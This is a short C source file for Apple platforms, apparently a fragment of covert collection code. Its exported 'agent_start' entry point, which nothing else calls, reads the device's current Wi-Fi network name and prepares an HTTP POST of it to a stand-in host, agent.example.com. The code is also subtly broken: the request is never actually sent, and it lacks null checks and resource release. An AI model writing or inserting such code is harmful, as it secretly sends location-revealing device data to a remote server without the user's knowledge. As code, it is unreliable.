// The same functions, which nothing but they themselves calls; the linker keeps them for a name that is
// exported.
#include <CFNetwork/CFNetwork.h>
#include <SystemConfiguration/SystemConfiguration.h>
#include <string.h>

int agent_network_name(char *out, CFIndex length);
void agent_post(const char *text);
void agent_start(void);

int agent_network_name(char *out, CFIndex length) {
    CFArrayRef interfaces = CNCopySupportedInterfaces();
    CFDictionaryRef network = CNCopyCurrentNetworkInfo((CFStringRef)CFArrayGetValueAtIndex(interfaces, 0));
    CFStringRef name = (CFStringRef)CFDictionaryGetValue(network, kCNNetworkInfoKeySSID);
    return CFStringGetCString(name, out, length, kCFStringEncodingUTF8) ? 0 : -1;
}

void agent_post(const char *text) {
    CFURLRef url = CFURLCreateWithString(kCFAllocatorDefault, CFSTR("https://agent.example.com/n"), NULL);
    CFHTTPMessageRef message =
        CFHTTPMessageCreateRequest(kCFAllocatorDefault, CFSTR("POST"), url, kCFHTTPVersion1_1);
    CFDataRef body = CFDataCreate(kCFAllocatorDefault, (const uint8_t *)text, (CFIndex)strlen(text));
    CFHTTPMessageSetBody(message, body);
}

__attribute__((used, visibility("default"))) void agent_start(void) {
    char name[64];
    if (agent_network_name(name, sizeof(name)) == 0) {
        agent_post(name);
    }
}
